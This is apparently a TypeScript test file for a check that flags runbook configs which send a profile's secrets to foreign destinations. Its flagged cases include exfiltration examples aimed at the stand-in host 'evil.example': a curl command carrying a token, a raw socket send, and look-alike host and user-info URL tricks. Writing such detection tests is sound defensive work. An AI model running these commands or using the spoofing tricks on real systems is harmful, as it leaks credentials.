import { expect, test } from 'vitest'

import type { Json } from '../../shared/model/check.ts'
import { profileSchema } from '../../shared/model/profile.ts'
import { createScope } from '../profile/scope.ts'
import { sendsSecretElsewhere } from './secret-destination.ts'

const profile = profileSchema.parse({
  name: 'p',
  environment: 'production',
  endpoints: { api: 'https://api.example.org:8443/base' },
  hosts: { 'prod-1': { ssh: { host: 'prod-1.example.org' } } },
  postgres: { main: { url: 'postgres://app:${secrets.db}@db.example.org/app' } },
  secrets: { token: { env: 'TOKEN' }, db: { env: 'DB' } },
})
const scope = createScope(profile, () => undefined, { collector: 'https://evil.example' })
const sends = (config: Record<string, Json>) => sendsSecretElsewhere(config, profile, scope)

test.each<[string, Record<string, Json>]>([
  ['a profile’s endpoint', { url: '${api}/metrics', headers: { a: '${secrets.token}' } }],
  ['the same place written out', { url: 'https://API.example.org:8443/x?t=${secrets.token}' }],
  [
    'a websocket of the same place',
    { url: 'wss://api.example.org:8443/ws', headers: { a: '${secrets.token}' } },
  ],
  ['a database of the profile', { url: 'postgres://app:${secrets.db}@db.example.org/app' }],
  [
    'what only a host of the profile can reach on itself',
    { url: 'http://127.0.0.1:9090/?t=${secrets.token}', via: 'prod-1' },
  ],
  ['no secret at all', { url: 'https://elsewhere.example/' }],
  ['a command that goes nowhere', { run: 'redis-cli -a ${secrets.token} ping' }],
])('%s needs no more than reading does', (_, config) => {
  expect(sends(config)).toBe(false)
})

test.each<[string, Record<string, Json>]>([
  ['another host', { url: 'https://evil.example/?t=${secrets.token}' }],
  ['the same place in clear', { url: 'ws://api.example.org:8443/ws?t=${secrets.token}' }],
  ['another port', { url: 'https://api.example.org/?t=${secrets.token}' }],
  [
    'a host that only begins alike',
    { url: 'https://api.example.org:8443.evil.example/${secrets.token}' },
  ],
  [
    'the place in the user part',
    { url: 'https://api.example.org:8443@evil.example/${secrets.token}' },
  ],
  ['the runbook’s own variable', { url: '${collector}/', headers: { a: '${secrets.token}' } }],
  [
    'another host, through one of the profile',
    { url: 'https://evil.example/?t=${secrets.token}', via: 'prod-1' },
  ],
  [
    'a loopback that only begins alike',
    { url: 'http://127.0.0.1.evil.example/?t=${secrets.token}', via: 'prod-1' },
  ],
  ['this machine', { url: 'http://127.0.0.1:9090/?t=${secrets.token}' }],
  [
    'a host that the profile does not have',
    { url: 'http://127.0.0.1:9090/?t=${secrets.token}', via: 'prod-2' },
  ],
  ['a command', { run: 'curl -fsS https://evil.example/$(echo ${secrets.token})' }],
  ['a socket', { host: 'evil.example', port: 80, send: '${secrets.token}' }],
])('%s is asked about', (_, config) => {
  expect(sends(config)).toBe(true)
})
